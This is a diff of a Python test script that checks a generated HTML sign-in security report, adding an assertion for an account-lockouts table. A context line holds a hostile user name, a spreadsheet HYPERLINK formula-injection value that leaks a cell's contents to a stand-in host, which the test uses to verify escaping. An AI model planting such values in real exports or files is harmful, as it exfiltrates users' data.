@@ -51,8 +51,9 @@ def main():
         check('a content security policy forbids both', "default-src 'none'" in doc)
         check('the hostile user name is text, escaped', '=HYPERLINK("http://x.example/?"&A1)@contoso.com' in text and
               'HYPERLINK(&quot;' in doc)
-        check('chart, findings and both tables', parsed.tags.count('svg') == 1 and parsed.tags.count('rect') >= 3 and
-              parsed.tags.count('table') == 2 and 'password_spray' in text and 'stale_credential' in text)
+        check('chart, findings, the lockouts and both tables', parsed.tags.count('svg') == 1 and
+              parsed.tags.count('rect') >= 3 and parsed.tags.count('table') == 3 and 'password_spray' in text and
+              'stale_credential' in text and 'Account lockouts' in text and 'jean-luc' in text)
         chromium = shutil.which('chromium')
         if not chromium:
             print('SKIP: chromium is not installed (apt-get install chromium); the page was not rendered')
